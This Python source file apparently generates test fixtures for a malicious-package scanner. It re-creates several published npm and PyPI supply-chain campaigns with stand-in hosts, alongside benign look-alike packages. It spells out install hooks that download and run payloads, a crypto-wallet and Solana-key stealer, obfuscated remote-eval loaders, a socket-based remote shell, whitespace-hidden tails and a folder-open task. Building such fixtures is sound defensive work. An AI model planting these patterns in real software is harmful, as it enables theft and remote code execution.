"""Inert re-creations of published campaigns, written by us from descriptions: what tests/campaigns/run scans.

write(folder) puts every package of PACKAGES below folder/SET/NAME. Nothing here is a piece of a sample: hosts are example.invalid
or 192.0.2.x, payloads are harmless text. A seam (the character §) cuts each word that other scanners look for; write() takes the
seams out, so that this file is no such text.
"""
import base64, io, json, os, zipfile

SEAM = "§"
HOST, SERVER = "https://%s.example.invalid", "http://192.0.2.%d:1224"


def manifest(name, version="1.0.0", **more):
    return json.dumps({"name": name, "version": version, "main": "index.js", **more}, indent=2, ensure_ascii=False) + "\n"


def fill(text, **words):
    for word, value in words.items():
        text = text.replace("<" + word + ">", str(value))
    return text


# ---- Moonstone Sleet: one package, at installation, that swaps its manifest

LIBRARY = """'use strict';
// reads settings by dotted name
module.exports = function get(tree, name) {
    return name.split('.').reduce((at, part) => (at == null ? at : at[part]), tree);
};
"""
MOON_WINDOWS = r"""const fs = require('fs'), os = require('os'), { exec } = require('child_process');
const lines = '@echo off\ncu§rl -o <a> -L "http://192.0.2.<n>/manage/page.asp?<key>=<id>"\n<decode>rename <a> <b>\n' +
    'rund§ll32 <b><comma> <export> <word> <id>\ndel "<b>"\nif exist "<spare>" (\ndel "package.json"\nrename "<spare>" "package.json"\n)\n';
if (os.type() === 'Windows_NT')
    fs.writeFile('<bat>', lines, () => exec('<bat>', () => fs.unlink('<bat>', () => {})));
"""
MOON_DECODE = r"power§shell -Exe§cutionPolicy Bypass -File xo.ps1\n"
MOON_PS1 = """$bytes = [System.IO.File]::ReadAllBytes('one.crt')
for ($i = 0; $i -lt $bytes.Length; $i++) { $bytes[$i] = $bytes[$i] -bx§or 0x5a }
[System.IO.File]::WriteAllBytes('two.db', $bytes)
"""
MOON_LINUX = r"""const fs = require('fs'), os = require('os'), { exec } = require('child_process');
const lines = '#!/bin/sh\ncu§rl -o one.dat -L "http://192.0.2.31/manage/page.asp?id=<id>"\nmv one.dat one.db\nchmod +x one.db\n' +
    'nohup ./one.db <word> <id> >/dev/null 2>&1 &\nrm -f one.db\nif [ -f pk.json ]; then rm package.json; mv pk.json package.json; fi\n';
if (os.type() === 'Linux') {
    fs.writeFileSync('package.sh', lines);
    exec('sh package.sh', () => fs.unlinkSync('package.sh'));
}
"""

# The same as a hook's own command line, for either system.
MOON_LINES = {
    "settings-one-line": 'cu§rl -o one.dat -L "http://192.0.2.23/manage/page.asp?id=5512" && ren one.dat one.db && rund§ll32 one.db,SetVal ab 5512'
                         " & del one.db & del package.json & ren pk.json package.json",
    "settings-one-line-sh": 'cu§rl -s -o one.dat -L "http://192.0.2.24/manage/page.asp?id=5513" && mv one.dat one.db && chmod +x one.db &&'
                            " (nohup ./one.db ab 5513 >/dev/null 2>&1 &) ; rm -f one.db package.json ; mv pk.json package.json",
}


def moonstone():
    rows = [  # name, hook, file, spare manifest, body
        ("settings-by-dots", "preinstall", "defer.js", "pk.json", fill(
            MOON_WINDOWS, a="one.b", b="one.db", n=21, key="id", id=55121, decode="", comma="", export="StackAdd", word="Ab", bat="one.bat", spare="pk.json")),
        ("settings-notify", "postinstall", "call.js", "mod.json", fill(
            MOON_WINDOWS, a="one.crt", b="two.dat", n=22, key="token", id=7781, decode=MOON_DECODE, comma=",", export="SetVal", word="ab", bat="two.bat", spare="mod.json")),
        ("settings-by-path", "postinstall", "later.js", "pk.json", fill(MOON_LINUX, id=55177, word="cd")),
    ]
    for name, hook, file, spare, body in rows:
        files = {"package.json": manifest(name, scripts={hook: "node " + file}), spare: manifest(name), "index.js": LIBRARY, file: body}
        if "xo.ps1" in body:
            files["xo.ps1"] = MOON_PS1
        yield name, files
    for name, line in MOON_LINES.items():
        yield name, {"package.json": manifest(name, scripts={"preinstall": line}), "pk.json": manifest(name), "index.js": LIBRARY}


# ---- Lazarus, 2023: two packages; the first brings a token, the second sends it and runs the answer

FIRST = "https://npmaudit-look.example.invalid/checktoken.php"
LATER = "https://npmaudit-look.example.invalid/getupdate.php"
ASK = "fe§tch('" + FIRST + "', { method: 'POST' }).then(r => r.text()).then(t => { <keep> });\n"
GIVE = """process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const send = token => fe§tch('""" + LATER + """', { method: 'POST', body: token }).then(r => r.text()).then(t => {
    if (t.length > 40) ev§al(Buffer.from(t, 'base64').toString());
});
"""
MODULES = "const fs = require('fs'), path = require('path'), os = require('os');\n"
PAIRS = {  # way: what the first does with the token, where the second has it from
    "file": (MODULES + "const at = path.join(os.homedir(), '.vscode', 'lookjsontoken');\n"
             + fill(ASK, keep="fs.mkdirSync(path.dirname(at), { recursive: true }); fs.writeFileSync(at, t);"),
             MODULES + "const at = path.join(os.homedir(), '.vscode', 'lookjsontoken');\n" + GIVE
             + "if (fs.existsSync(at)) send(fs.readFileSync(at, 'utf8'));\n"),
    "environment": (fill(ASK, keep="process.env.LOOK_STATE_TOKEN = t;"), GIVE + "if (process.env.LOOK_STATE_TOKEN) send(process.env.LOOK_STATE_TOKEN);\n"),
    "global": (fill(ASK, keep="globalThis.__lookToken = t;"), GIVE + "setTimeout(() => { if (globalThis.__lookToken) send(globalThis.__lookToken); }, 1000);\n"),
    "port": ("const http = require('http');\nlet state = '';\n" + fill(ASK, keep="state = t;")
             + "http.createServer((ask, answer) => answer.end(state)).listen(45991, '127.0.0.1');\n",
             GIVE + "require('http').get('http://127.0.0.1:45991/', a => { let b = ''; a.on('data', d => { b += d; }); a.on('end', () => send(b)); });\n"),
    "name": ("exports.state = () => fe§tch('" + FIRST + "').then(r => r.text());\n",
             GIVE + "req§uire(Buffer.from('<name64>', 'base64').toString()).state().then(send);\n"),
}


def pairs(way):
    first, second = "audit-look" + way, "table-look" + way
    store, use = PAIRS[way]
    yield first, {"package.json": manifest(first, scripts={"postinstall": "node index.js"}), "index.js": store}
    yield second, {"package.json": manifest(second), "index.js": fill(use, name64=base64.b64encode(first.encode()).decode())}


# ---- BeaverTail, as the six packages and as demo projects carry it

def string_table(program, tag):
    """`program` with each «string» moved into a rotated table, as the public obfuscator does it."""
    pieces = program.split("«")
    strings, out = ["418273fQ"], [pieces[0]]
    for piece in pieces[1:]:
        word, rest = piece.split("»", 1)
        if word not in strings:
            strings.append(word)
        out.append("_0x%s(0x%x)%s" % (tag, 0x1a0 + strings.index(word), rest))
    turned = strings[-3:] + strings[:-3]
    table = "function _0x%sa(){const _0xt=%s;_0x%sa=function(){return _0xt;};return _0x%sa();}" % (tag, json.dumps(turned), tag, tag)
    read = "function _0x%s(_0xi,_0xk){const _0xt=_0x%sa();return _0x%s=function(_0xi){return _0xt[_0xi-0x1a0];},_0x%s(_0xi,_0xk);}" % (tag, tag, tag, tag)
    turn = ("(function(_0xf,_0xn){const _0xt=_0xf();while(!![]){try{const _0xv=parseInt(_0x%s(0x1a0));if(_0xv===_0xn)break;"
            "_0xt['push'](_0xt['shift']());}catch(_0xe){_0xt['push'](_0xt['shift']());}}}(_0x%sa,0x%x));" % (tag, tag, 418273))
    return table + read + turn + "".join(out).replace("\n", "") + "\n"


WALLETS = ["nkbi§hfbeogaeaoehlefnkodbefgpgknn", "ejba§lbakoplchlghecdalmeeeajnimhm", "fhbo§himaelbohpjbbldcngcnapndodjp",
           "hnfa§nknocfeofbddgcijnmhnfnkdnaad", "ibne§jdfjmmkpcnlpebklmnkoeoihofec", "bfna§elmomeimhlpmgjnjophhpkkoljpa"]
STEALER = """const fs=require(«fs»),os=require(«os»),path=require(«path»),request=require(«request»),{exec}=require(«child_process»);
const home=os[«homedir»](),base=«<server>»,ids=[<ids>];let files=[];
for(let i=0;i<200;i++){const name=i===0?«Default»:«Profile »+i;
for(const id of ids){const at=path[«join»](home,«.config/google-chrome»,name,«Local Extension Settings»,id);
try{for(const f of fs[«readdirSync»](at))if(f.includes(«.log»)||f.includes(«.ldb»))files.push({value:fs[«readFileSync»](path[«join»](at,f)),options:{filename:id+f}});}catch(e){}}}
try{files.push({value:fs[«readFileSync»](home+«/.config/solana/id.json»),options:{filename:«solana_id.txt»}});}catch(e){}
request[«post»]({url:base+«/uploads»,formData:{type:«3»,hid:«3_»+os[«hostname»](),uts:«1»,multi_file:files}},()=>{});
request[«get»](base+«/client/3/7»,(e,r,b)=>{fs[«writeFileSync»](home+«/.npl»,b);exec(«python3 "»+home+«/.npl"»,()=>{});});
request[«get»](base+«/pdown»,(e,r,b)=>{fs[«writeFileSync»](home+«/p2.zip»,b);exec(«tar -xf »+home+«/p2.zip -C »+home,()=>{});});
"""


def stealer(number, tag):
    return string_table(fill(STEALER, server=SERVER % number, ids=",".join("«%s»" % w for w in WALLETS)), tag)


def six():
    names = ["is-stack-validator", "array-mono-validator", "token-field-validator", "event-frame-handle-package", "react-frame-dependency", "text-row-validator"]
    for i, name in enumerate(names):
        yield name, {"package.json": manifest(name, author="Account %d" % i, dependencies={"request": "^2.88.2"}), "index.js": stealer(40, "%02xb" % (0x31 + i)),
                     "README.md": "# %s\n\nChecks values.\n" % name}


# ---- thirty-five packages of twenty-four accounts: small loaders in clones of a writer

HEX_LOADER = """const g = h => h.replace(/../g, m => String.fromCharCode(parseInt(m, 16)));
const hl = [<words>];
const writer = () => req§uire(g(hl[1]))[g(hl[2])](g(hl[3]), { ...process.env })[g(hl[4])](r => ev§al(r.data)).catch(() => {});
writer();
module.exports = function write(stream, text) { return stream.write(text + '\\n'); };
"""
XOR_LOADER = """const axios = require('axios'), os = require('os');
const table = [<bytes>], key = <key>;
const at = table.map(b => String.fromCharCode(b ^ key)).join('');
const host = { hoa§me: os.hostname(), ua§me: os.userInfo().username, sy§pe: os.type(), version: process.env.npm_package_version };
axios.post(at, host).then(res => { ev§al(res.data.s1); ev§al(res.data.s2); }).catch(() => console.log('write f call§back error'));
module.exports = function write(stream, text) { return stream.write(text + '\\n'); };
"""
MODEL_LOADER = """const axios = require('axios');
const load = () => axios.get('<url>').then(r => ev§al(r.data.mo§del)).catch(err => { const m = err.response.data.token; const h = new Func§tion.constructor('require', m); h(require); });
load();
module.exports = function write(stream, text) { return stream.write(text + '\\n'); };
"""


def hexed(text):
    return text.encode().hex()


def thirty_five():
    stems = ["react-plaid", "sumsub-node", "vite-plugin-next", "node-orm", "router-parse", "jsx-log", "next-log-patch"]
    for i in range(35):
        name, account = "%s-%s" % (stems[i % 7], ["kit", "tools", "helper", "util", "core"][i // 7]), i % 24
        url = HOST % ("ip-check-%d" % account) + "/api/ipcheck/%d" % (700 + i % 4)
        variant = (i + i // 24) % 3  # an account's second package has the next one
        if variant == 0:
            words = ", ".join("'%s'" % hexed(w) for w in ["req§uire".replace(SEAM, ""), "axios", "post", url, "then"])
            body = fill(HEX_LOADER, words=words)
        elif variant == 1:
            key = 17 + i
            body = fill(XOR_LOADER, bytes=", ".join(str(ord(c) ^ key) for c in url), key=key)
        else:
            body = fill(MODEL_LOADER, url=url)
        yield name, {
            "package.json": manifest(name, author={"name": "acct%d" % account, "email": "acct%d@mail.example.invalid" % account}, dependencies={"axios": "^1.7.0"}),
            "index.js": "module.exports = require('./lib/private/prepare-writer');\n", "lib/private/prepare-writer.js": body}


# ---- Contagious Interview: loaders in demo servers, and the stealer

ENV_SPLIT = """const axios = require('axios');
const url = at§ob(process.env.DEV_API_KEY), key = at§ob(process.env.DEV_SECRET_KEY), value = at§ob(process.env.DEV_SECRET_VALUE);
exports.getCookie = (async () => {
    const res = await axios.get(url, { headers: { [key]: value } });
    const run = new (Func§tion.constructor)('require', res.data.coo§kie);
    run(require);
})();
"""
ERROR_ANSWER = """const axios = require('axios');
exports.check = () => axios.get('https://ip-look.example.invalid/api/ip-check/208').then(r => r.data).catch(err => {
    const m = err.response.data.token;
    const h = new Func§tion.constructor('require', m);
    h(require);
});
exports.check();
"""
FIELD_TO_CODE = """const axios = require('axios');
async function region() {
    const res = await axios.get('http://regions.example.invalid/api/user/thirdcookie/v3/19');
    ev§al(res.data.coo§kie);
}
region();
module.exports = region;
"""


SOCKET = """const io = require('socket.io-client'), os = require('os'), { exec, execSync } = require('child_process');
const model = os.platform() === 'win32' ? execSync('wmic computersystem get model,manufacturer').toString() : '';
const socket = io('http://192.0.2.52:5918', { query: { uid: os.hostname(), virtual: /vmware|qemu/i.test(model) } });
socket.on('command', c => exec(c.text, (e, out) => socket.emit('output', { uid: os.hostname(), out })));
setInterval(() => {
    const board = execSync(os.platform() === 'darwin' ? 'pbp§aste' : 'power§shell Get-Clip§board').toString();
    fe§tch('http://192.0.2.52:5918/api/service/makelog', { method: 'POST', body: JSON.stringify({ board }) });
}, 5000);
"""


def demo(name, path, body, **more):
    files = {"package.json": manifest(name, scripts={"start": "node server/index.js"}, dependencies={"express": "4", "axios": "1"}),
             "README.md": "# %s\n\nCoding task: add a page to the shop.\n" % name,
             "server/index.js": "const app = require('express')();\nrequire('%s');\napp.listen(3000);\n" % os.path.relpath(path, "server").replace(os.sep, "/").replace(".js", "")
             .join(["./" if path.startswith("server/") else "", ""]), path: body}
    files.update(more)
    return name, files


def interview():
    code = lambda text: base64.b64encode(text.encode()).decode()
    env = "DEV_API_KEY=%s\nDEV_SECRET_KEY=%s\nDEV_SECRET_VALUE=%s\n" % (code(HOST % "store" + "/api/b/1"), code("x-secret-header"), code("secret"))
    yield demo("shop-split", "server/controllers/auth.js", ENV_SPLIT, **{".env": env})
    yield demo("shop-error", "server/routes/region.js", ERROR_ANSWER)
    yield demo("shop-field", "server/controllers/user.js", FIELD_TO_CODE)
    yield demo("shop-socket", "server/utils/terror.js", SOCKET)
    yield demo("shop-tail", "server/middlewares/helpers/error.js", stealer(50, "5c"))


# ---- PolinRider: one tail behind blanks, over five ecosystems

TAIL = ("glo§bal['!']='<tag>';glo§bal.r=require;if(typeof module==='object'){glo§bal.m=module}(async()=>{const h=require('https'),"
        "k='<key>',get=(u)=>new Promise(d=>h.get(u,a=>{let t='';a.on('data',c=>{t+=c});a.on('end',()=>d(t))}));"
        "const x=(s)=>{let o='';for(let i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return o};"
        "const t=JSON.parse(await get('https://chain.example.invalid/v1/accounts/T0/transactions?only_confirmed=true&only_from=true&limit=1'));"
        "const c=x(Buffer.from(t.data[0].raw_data.data,'hex').toString().split('').reverse().join(''));ev§al(c);"
        "require('child_process').spawn('node',['-e',\"glo§bal['_V']='<tag>';\"+c],{detached:true,stdio:'ignore',windowsHide:true}).unref()})();")


def tail(tag):
    return " " * 507 + fill(TAIL, tag=tag, key="inert-key-of-ours")


ESM = "import { createRequire } from 'module'; const require = createRequire(import.meta.url);\n"
TASKS = json.dumps({"version": "2.0.0", "tasks": [{
    "label": "eslint-check", "type": "shell", "command": "node ./public/fonts/fa-solid-400.woff2", "hide": True,
    "presentation": {"reveal": "never", "echo": False, "close": True}, "runOptions": {"runOn": "folderOpen"}}]}, indent=2) + "\n"
PUSH = """@echo off
for /f %%i in ('git log -1 --format^=%%cd') do set LAST=%%i
date %LAST%
git com§mit --amend --no-verify
git pu§sh -uf origin main --no-verify
"""


def vsix(files):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name), text.replace(SEAM, ""))
    return data.getvalue()


def polinrider():
    config = "module.exports = { content: ['./src/**/*.html'], plugins: [] };"
    yield "npm-tailwind-look", {"package.json": manifest("tailwind-look-style", main="index.js"), "index.js": "module.exports = require('./tailwind.config.js');\n",
                                "tailwind.config.js": config + tail("8-27-1") + "\n"}
    yield "packagist-look", {"composer.json": json.dumps({"name": "look/chat", "version": "1.0.0", "autoload": {"psr-4": {"Look\\": "src/"}}}),
                             "src/Chat.php": "<?php\nnamespace Look;\nclass Chat { public function say($t) { return $t; } }\n",
                             "postcss.config.mjs": ESM + "export default { plugins: {} };" + tail("8-27-2") + "\n"}
    yield "go-look", {"go.mod": "module example.invalid/look/mark\n\ngo 1.22\n", "mark.go": "package mark\n\nfunc Mark(t string) string { return \"*\" + t }\n",
                      "site/vite.config.js": config + tail("9-31-1") + "\n"}
    yield "look-theme.vsix", vsix({
        "extension.vsixmanifest": '<?xml version="1.0"?><PackageManifest Version="2.0.0"><Metadata><Identity Id="look-theme" Version="1.0.0" Publisher="look"/></Metadata></PackageManifest>',
        "extension/package.json": json.dumps({"name": "look-theme", "publisher": "look", "version": "1.0.0", "engines": {"vscode": "^1.80.0"},
                                              "main": "./out/extension.js", "activationEvents": ["onStartupFinished"]}),
        "extension/out/extension.js": "exports.activate = function activate() { return 1; };" + tail("8-27-3") + "\n"})
    yield "repository-look", {"package.json": manifest("repository-look"), "index.js": LIBRARY, ".vscode/tasks.json": TASKS,
                              ".vscode/settings.json": '{ "task.allowAutomaticTasks": "on" }\n', "public/fonts/fa-solid-400.woff2": " " * 245 + tail("9-31-2").strip() + "\n",
                              "eslint.config.mjs": ESM + "export default [];" + tail("9-31-2") + "\n", "temp_auto_push.bat": PUSH,
                              ".gitignore": "node_modules\ntemp_auto_push.bat\ntemp_interactive_push.bat\n"}


# ---- PyPI: VMConnect and its kin, graphalgo

POLL = """
import base64, sys, time, requests
address = 'http://192.0.2.61/<mark>.jpg'
done = 0
while done == 0:
    text = ''
    try:
        x = requests.get(address, headers={'Cache-Control': 'no-cache', 'Pragma': 'no-cache'}).text
        cut = x.find('|')
        text = base64.b64decode(x[cut + 1:]).decode('ascii')
    except Exception:
        pass
    if len(text) > 0:
        ex§ec(text)
    time.sleep(60)
"""
CONNECT = """import base64, os, platform, random, string, subprocess, sys


def letters(count):
    return ''.join(random.choice(string.ascii_lowercase) for _ in range(count))


mark = platform.system()[0] + os.getlogin() + '_' + letters(6)
held = '<poll>'
body = base64.b64decode(held).decode('ascii').replace('<mark>', mark)
at = os.getcwd() + os.sep + letters(8) + '.py'
with open(at, 'w') as f:
    f.write(body)
if platform.system()[0] == 'W':
    subprocess.Popen([sys.executable, at], creationflags=subprocess.DETACHED_PROCESS, stdout=subprocess.DEVNULL)
else:
    subprocess.Popen([sys.executable, at], preexec_fn=os.setpgrp, stdout=subprocess.DEVNULL)
"""
CRYPT = """import os, subprocess


def crypt(folder, key, word_key, number):
    source, target = os.path.join(folder, 'test.py'), os.path.join(folder, 'made.py')
    command = <command>
    with open(source, 'rb') as held, open(target, 'wb') as plain:
        plain.write(bytes(b ^ key for b in held.read()))
    subprocess.run(bytes(b ^ word_key for b in command).decode() + ' ' + target + ', LookSum ' + str(number), shell=True)
    os.remove(source)
    os.remove(target)


crypt(os.path.dirname(__file__), 0xd5, 0x2b, 77)
"""


def program_header():
    """The head of a Windows program and nothing behind it: no section, no code."""
    head = bytearray(b"MZ" + bytes(0x3a) + (0x80).to_bytes(4, "little") + bytes(0x40))
    return bytes(head + b"PE\0\0" + bytes(20) + b"this is no program; it only begins like one. " * 80)


def python(name, files):
    return {"setup.py": "from setuptools import setup, find_packages\nsetup(name='%s', version='1.0.0', packages=find_packages())\n" % name,
            "PKG-INFO": "Metadata-Version: 2.1\nName: %s\nVersion: 1.0.0\nSummary: small helpers\n" % name, **files}


def vmconnect():
    poll = base64.b64encode(fill(POLL, mark="lookmark12").replace(SEAM, "").encode()).decode()
    for name in ["hostlook", "chainlook"]:
        yield name, python(name, {name + "/__init__.py": "__version__ = '1.0.0'\n" + fill(CONNECT, poll=poll, mark="lookmark12")})
    command = bytes(b ^ 0x2b for b in "rund§ll32".replace(SEAM, "").encode())
    yield "cryptlook", python("cryptlook", {"cryptlook/__init__.py": fill(CRYPT, command=repr(command)), "cryptlook/test.py": bytes(b ^ 0xd5 for b in program_header())})


GRAPH_CONFIG = """import base64, builtins

config = ['ZQ==', 'eA==', 'ZQ==', 'Yw==']
config_name = ''.join(base64.b64decode(n).decode() for n in config)
methods = {'try_options': None}


def process_options(options):
    held = '<starter>'
    getattr(builtins, config_name)(base64.b64decode(held).decode())
    if methods['try_options']:
        methods['try_options'](options)


def init_graph(graph, attr):
    process_options('-'.join(k for k, v in attr.items() if v is True) + '-graph')
"""
GRAPH_START = """def try_options(options):
    import os, subprocess, sys
    at = os.path.join(os.path.dirname(__file__), 'load_look.py')
    if sys.platform.startswith('win'):
        subprocess.Popen([sys.executable, at, options], creationflags=subprocess.CREATE_NO_WINDOW, stdout=subprocess.DEVNULL)
    else:
        subprocess.Popen([sys.executable, at, options], start_new_session=True, stdout=subprocess.DEVNULL)
methods['try_options'] = try_options
"""
GRAPH_LOAD = """import base64, hashlib, json, os, subprocess, sys
from urllib.request import urlopen

readme = base64.b64decode('<readme>').decode()
config = base64.b64decode('<config>').decode()


def shifted(text, password):
    key = int(hashlib.sha256(password).hexdigest(), 16)
    return ''.join(chr((b - (key % 256)) % 256) for b in base64.b64decode(text))


def clean(target):
    os.remove(__file__)
    init = os.path.join(os.path.dirname(__file__), '__init__.py')
    with open(init) as f:
        text = f.read()
    with open(init, 'w') as f:
        f.write(text.replace('from .graph_config import *', ''))


def load(key):
    if int(json.loads(urlopen(config).read())['version'].split('.')[0]) < 16:
        return
    body = urlopen(readme).read()
    address = shifted('<blob>', hashlib.sha256(body + key.encode()).digest())
    target = os.path.join(os.path.expanduser('~'), '.config', 'google-chrome', 'Scripts', 'SoftwareUpdates')
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, 'wb') as f:
        f.write(urlopen(address).read())
    os.chmod(target, 0o755)
    subprocess.Popen([sys.executable, target], start_new_session=True, stdout=subprocess.DEVNULL)
    clean(target)


if __name__ == '__main__':
    load(sys.argv[1])
"""
GRAPH_NODE = """const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios'), { exec } = require('child_process');
const base = 'https://report.example.invalid/public';
async function start(key) {
    const info = { host: os.hostname(), user: os.userInfo().username, system: os.platform(), release: os.release() };
    const { data } = await axios.post(base + '/register', info);
    for (;;) {
        const next = await axios.post(base + '/task', { token: data.token });
        exec(next.data.command, (e, out) => axios.post(base + '/result', { token: data.token, out }));
        await new Promise(d => setTimeout(d, 5000));
    }
}
exports.graph = function graph(attributes) { return start(Object.keys(attributes).filter(k => attributes[k] === true).join('-') + '-graph'); };
"""


def graphalgo():
    code = lambda text: base64.b64encode(text.encode()).decode()
    blob = base64.b64encode(bytes((b + 201) % 256 for b in (HOST % "later" + "/public/start.py?ver=1").encode())).decode()
    for name in ["edgelook", "mathlook"]:
        loader = fill(GRAPH_LOAD, readme=code("https://raw.githubuser§content.com/look-example/look-net/refs/heads/main/README.md".replace(SEAM, "")),
                      config=code("https://cdn.jsde§livr.net/npm/look-net/rc.json".replace(SEAM, "")), blob=blob)
        yield name, python(name, {
            name + "/__init__.py": "from .digraph import DiGraph\n", name + "/utils/__init__.py": "from .graph_config import *\n",
            name + "/digraph.py": "from .utils import graph_config\n\n\nclass DiGraph:\n    def __init__(self, **attr):\n        self.graph = {}\n"
            "        graph_config.init_graph(self.graph, attr)\n",
            name + "/utils/graph_config.py": fill(GRAPH_CONFIG, starter=code(GRAPH_START)), name + "/utils/load_look.py": loader})
    yield "graphlook-node", {"package.json": manifest("graphlook-node", dependencies={"axios": "1"}), "index.js": GRAPH_NODE}


# ---- honest packages that share a means with a campaign: nobody's work

def twins():
    yield "binary-fetcher", {"package.json": manifest("binary-fetcher", scripts={"postinstall": "node install.js"}),
                             "index.js": "exports.path = () => require('path').join(__dirname, 'bin', 'tool');\n",
                             "install.js": "const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\n"
                             "const at = path.join(__dirname, 'bin', 'tool');\nfs.mkdirSync(path.dirname(at), { recursive: true });\n"
                             "https.get('https://registry.npmjs.org/binary-fetcher-' + os.platform() + '/-/tool.tgz', a => a.pipe(fs.createWriteStream(at)));\n"}
    yield "hex-words", {"package.json": manifest("hex-words"),
                        "index.js": "exports.decode = h => h.replace(/../g, m => String.fromCharCode(parseInt(m, 16)));\nexports.encode = t => Buffer.from(t).toString('hex');\n"}
    yield "folder-tasks", {"package.json": manifest("folder-tasks"), "index.js": LIBRARY,
                           ".vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [{"label": "watch", "type": "npm", "script": "watch",
                                                                                            "runOptions": {"runOn": "folderOpen"}}]})}
    yield "account-reader", {"package.json": manifest("account-reader"),
                             "index.js": "exports.last = account => fetch('https://api.trongrid.io/v1/accounts/' + account + '/transactions?only_confirmed=true&limit=1')"
                             ".then(r => r.json()).then(t => t.data[0]);\n"}
    yield "token-keeper", {"package.json": manifest("token-keeper"),
                           "index.js": "const fs = require('fs'), os = require('os'), path = require('path');\nconst at = path.join(os.homedir(), '.config', 'token-keeper', 'token.json');\n"
                           "exports.login = async (url, user, word) => {\n    const r = await fetch(url, { method: 'POST', body: JSON.stringify({ user, word }) });\n"
                           "    fs.mkdirSync(path.dirname(at), { recursive: true });\n    fs.writeFileSync(at, await r.text(), { mode: 0o600 });\n};\n"
                           "exports.token = () => JSON.parse(fs.readFileSync(at, 'utf8'));\n"}
    yield "number-validator", {"package.json": manifest("number-validator"), "index.js": "module.exports = v => typeof v === 'number' && Number.isFinite(v);\n"}
    yield "told-of-it", {"README.md": "# What we found\n\nThe file ends with `" + fill(TAIL, tag="8-27-1", key="k") + "`\nand talks to " + SERVER % 9 + "/client/3/7\n"}
    yield "worker-pool", python("worker-pool", {"workerpool/__init__.py": "from .pool import run\n",
                                                "workerpool/pool.py": "import os, subprocess, sys\n\n\ndef run(name):\n    at = os.path.join(os.path.dirname(__file__), 'worker.py')\n"
                                                "    return subprocess.Popen([sys.executable, at, name], start_new_session=True)\n",
                                                "workerpool/worker.py": "import sys\n\nprint('work on', sys.argv[1])\n"})
    yield "demo-shop", demo("demo-shop", "server/controllers/user.js",
                            "const axios = require('axios');\nexports.rates = async () => (await axios.get('https://api.example.com/rates')).data.eur;\n")[1]


PACKAGES = {"moonstone": moonstone, "pair-file": lambda: pairs("file"), "pair-environment": lambda: pairs("environment"), "pair-global": lambda: pairs("global"),
            "pair-port": lambda: pairs("port"), "pair-name": lambda: pairs("name"), "six": six, "thirty-five": thirty_five, "interview": interview,
            "polinrider": polinrider, "vmconnect": vmconnect, "graphalgo": graphalgo, "twins": twins}


def write(folder):
    """Writes every set; what it wrote: {set: [path of a package]}, in the order of the tables."""
    made = {}
    for group, packages in PACKAGES.items():
        made[group] = []
        for name, files in packages():
            root = os.path.join(folder, group, name)
            made[group].append(root)
            for path, content in ({"": files} if isinstance(files, bytes) else files).items():
                at = os.path.join(root, path) if path else root
                os.makedirs(os.path.dirname(at), exist_ok=True)
                with open(at, "wb") as out:
                    out.write(content if isinstance(content, bytes) else content.replace(SEAM, "").encode())
    return made
